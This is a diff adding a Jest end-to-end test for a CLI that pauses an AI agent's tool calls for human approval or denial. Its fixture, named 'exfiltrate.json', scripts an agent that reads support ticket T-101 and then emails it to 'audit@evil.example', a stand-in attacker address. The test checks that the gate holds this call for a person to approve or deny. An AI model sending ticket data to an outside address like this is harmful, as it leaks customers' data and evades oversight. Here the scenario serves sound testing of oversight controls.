@@ -1,0 +1,226 @@
+// The operator's loop from a terminal, against a real server: run, wait for a person, answer, show,
+// list, describe, cancel; and each CLI error the operator met, with its exit code.
+import fs from 'node:fs';
+import path from 'node:path';
+import { randomUUID } from 'node:crypto';
+import type { Manifest } from '../../catalog/manifest';
+import { main } from '../../cli';
+import { KeyedLog } from '../../examples/support-desk/keyed-log';
+import { paymentsStore } from '../../examples/support-desk/payments-store';
+import { createCloseTicket } from '../../examples/support-desk/tools/close-ticket';
+import { lookupCustomer } from '../../examples/support-desk/tools/crm';
+import { createSendEmail, type Mail } from '../../examples/support-desk/tools/mail';
+import { createRefund } from '../../examples/support-desk/tools/payments';
+import { readTicket } from '../../examples/support-desk/tools/tickets';
+import { EXAMPLE_MANIFEST, exampleManifest, harness, testAddress, testDir, type Harness } from '../support/env';
+
+/** One CLI invocation: its exit code, standard output and standard error, as lines. */
+interface Invocation {
+  code: Promise<number>;
+  out: string[];
+  err: string[];
+}
+
+function toolplane(...args: string[]): Invocation {
+  const out: string[] = [];
+  const err: string[] = [];
+  const spy = jest.spyOn(console, 'error').mockImplementation((l: string) => void err.push(l));
+  const code = main(
+    ['node', 'toolplane', ...args],
+    (l) => out.push(...l.split('\n')),
+    (l) => err.push(l),
+  ).finally(() => spy.mockRestore());
+  return { code, out, err };
+}
+
+async function waitForLine(lines: string[], pattern: RegExp, timeoutMs = 60_000): Promise<string> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const hit = lines.find((l) => pattern.test(l));
+    if (hit) return hit;
+    if (Date.now() > deadline)
+      throw new Error(`no line matched ${pattern} within ${timeoutMs}ms:\n${lines.join('\n')}`);
+    await new Promise((r) => setTimeout(r, 100));
+  }
+}
+
+describe('toolplane CLI against a server', () => {
+  const dir = testDir('cli');
+  const outbox = new KeyedLog<Mail>(dir, 'outbox');
+  const base = exampleManifest();
+  // The mail tool asks a person when the gate questions a call, instead of refusing it.
+  const askable: Manifest = {
+    ...base,
+    tools: base.tools.map((t) => (t.id === 'tool://mail/send_email' ? { ...t, approval: 'on_violation' } : t)),
+  };
+  const script = path.join(dir, 'exfiltrate.json');
+  fs.writeFileSync(
+    script,
+    JSON.stringify({
+      prompt: 'Handle ticket T-101.',
+      turns: [
+        { tool_calls: [{ name: 'tickets__read_ticket', arguments: { ticket_id: 'T-101' } }] },
+        {
+          tool_calls: [{ name: 'mail__send_email', arguments: { to: 'audit@evil.example', subject: 's', body: 'b' } }],
+        },
+        { final: 'done' },
+      ],
+    }),
+  );
+  let h: Harness;
+  const address = () => ['--address', testAddress()];
+  const run = (...extra: string[]) =>
+    toolplane(
+      'run',
+      ...address(),
+      '--principal',
+      `agent:cli-${randomUUID()}`,
+      '--model',
+      `scripted:${script}`,
+      '--task-queue',
+      h.taskQueue,
+      ...extra,
+    );
+
+  beforeAll(async () => {
+    h = await harness(`cli-${randomUUID()}`);
+    const payments = paymentsStore(dir);
+    await h.runWorker({
+      manifest: askable,
+      tools: [
+        lookupCustomer,
+        readTicket,
+        createRefund(payments),
+        createSendEmail(outbox),
+        createCloseTicket(new KeyedLog(dir, 'closed')),
+      ],
+    });
+  });
+  afterAll(() => h.close());
+
+  it('run prints the effect key and the exact approve command; approve lets the run complete', async () => {
+    const r = run();
+    const approveLine = await waitForLine(r.out, /approve: npx toolplane approve \S+ ek-/);
+    expect(r.out.join('\n')).toMatch(
+      /#1 tool:\/\/mail\/send_email waits for approval: .*protected_field:\/to.*until \d{4}-\d\d-\d\d \d\d:\d\d UTC \(in 23h/,
+    );
+    const [workflowId, effectKey] = approveLine.split('approve ').pop()!.split(' ');
+    expect(r.out.join('\n')).toContain(`deny:    npx toolplane deny ${workflowId} ${effectKey} --reason "<why>"`);
+
+    const described = toolplane('describe', workflowId!, ...address(), '--json');
+    expect(await described.code).toBe(0);
+    expect(JSON.parse(described.out.join('\n'))).toMatchObject({
+      status: 'RUNNING',
+      pending: [{ effectKey, kind: 'approval', toolId: 'tool://mail/send_email' }],
+    });
+
+    const approved = toolplane('approve', workflowId!, effectKey!, ...address(), '--by', 'supervisor');
+    expect(await approved.code).toBe(0);
+    expect(approved.out).toEqual([`${workflowId}: ${effectKey} approved by supervisor`]);
+    expect(await r.code).toBe(0);
+    expect(r.out).toContain(`run ${workflowId} completed`);
+    expect(outbox.all().some((m) => m.to === 'audit@evil.example')).toBe(true);
+  });
+
+  it('deny records the reason, which show prints with who denied', async () => {
+    const r = run();
+    const denyLine = await waitForLine(r.out, /deny: +npx toolplane deny /);
+    const [workflowId, effectKey] = denyLine.split('deny ').pop()!.split(' ');
+    const noReason = toolplane('deny', workflowId!, effectKey!, ...address());
+    expect(await noReason.code).toBe(2);
+    expect(noReason.err.join('\n')).toMatch(/required option '--reason <text>'/);
+    const denied = toolplane(
+      'deny',
+      workflowId!,
+      effectKey!,
+      ...address(),
+      '--by',
+      'alice',
+      '--reason',
+      'not our auditor',
+    );
+    expect(await denied.code).toBe(0);
+    expect(await r.code).toBe(0);
+    const shown = toolplane('show', workflowId!, ...address());
+    expect(await shown.code).toBe(0);
+    expect(shown.out.join('\n')).toMatch(
+      /#1\s+tool:\/\/mail\/send_email\s.*refused\s+denied · protected_field:\/to · .*denied by alice: not our auditor$/m,
+    );
+  });
+
+  it('resolve with approve is a usage error that names the command to use', async () => {
+    const r = toolplane('resolve', 'wf-1', 'ek-1', 'approve', ...address());
+    expect(await r.code).toBe(2);
+    expect(r.err.join('\n')).toMatch(
+      /resolve decides in-doubt calls \(retry, landed, abort\); an approval is answered with\n\s+toolplane approve wf-1 ek-1/,
+    );
+  });
+
+  it('show, describe, escalations and cancel of an unknown run say so and exit 1', async () => {
+    for (const cmd of ['show', 'describe', 'escalations', 'cancel']) {
+      const r = toolplane(cmd, `no-such-run-${randomUUID()}`, ...address());
+      expect(await r.code).toBe(1);
+      expect(r.err.join('\n')).toMatch(/^no run "no-such-run-.*" in namespace "default"$/);
+    }
+  });
+
+  it('a refused run prints its root cause and exits 1', async () => {
+    // The worker serves `askable`; a run pinned to the example manifest is refused.
+    const r = run('--manifest', EXAMPLE_MANIFEST);
+    expect(await r.code).toBe(1);
+    const text = r.out.join('\n');
+    expect(text).toMatch(
+      /run \S+ failed:\n\s+WorkflowFailedError: Workflow execution failed\n\s+caused by RunRefused: .*pinned to manifest/,
+    );
+  });
+
+  it('run says when no worker polls the task queue, and how to start one', async () => {
+    const queue = `nobody-${randomUUID()}`;
+    const workflowId = `cli-idle-${randomUUID()}`;
+    const r = toolplane(
+      'run',
+      ...address(),
+      '--model',
+      `scripted:${script}`,
+      '--task-queue',
+      queue,
+      '--workflow-id',
+      workflowId,
+    );
+    await waitForLine(r.out, new RegExp(`no worker polls task queue "${queue}"`));
+    expect(r.out.join('\n')).toContain(
+      `npx toolplane worker --manifest <manifest.yaml> --tools <module> --task-queue ${queue}`,
+    );
+    await h.client.workflow.getHandle(workflowId).terminate('test over');
+    expect(await r.code).toBe(1);
+    expect(r.out.join('\n')).toMatch(/caused by TerminatedFailure: test over/);
+  });
+
+  it('list finds runs by principal; cancel ends a waiting run', async () => {
+    const principal = `agent:list-${randomUUID()}`;
+    const r = toolplane(
+      'run',
+      ...address(),
+      '--principal',
+      principal,
+      '--model',
+      `scripted:${script}`,
+      '--task-queue',
+      h.taskQueue,
+    );
+    const line = await waitForLine(r.out, /approve: npx toolplane approve /);
+    const workflowId = line.split('approve ').pop()!.split(' ')[0]!;
+    const deadline = Date.now() + 30_000;
+    let rows: { workflowId: string; status: string; principal: string }[] = [];
+    while (rows.length === 0 && Date.now() < deadline) {
+      const listed = toolplane('list', ...address(), '--principal', principal, '--json');
+      expect(await listed.code).toBe(0);
+      rows = (JSON.parse(listed.out.join('\n')) as { runs: typeof rows }).runs;
+    }
+    expect(rows).toEqual([expect.objectContaining({ workflowId, status: 'RUNNING', principal })]);
+    const cancelled = toolplane('cancel', workflowId, ...address());
+    expect(await cancelled.code).toBe(0);
+    expect(await r.code).toBe(1);
+    expect(r.out.join('\n')).toMatch(/caused by CancelledFailure/);
+  });
+});
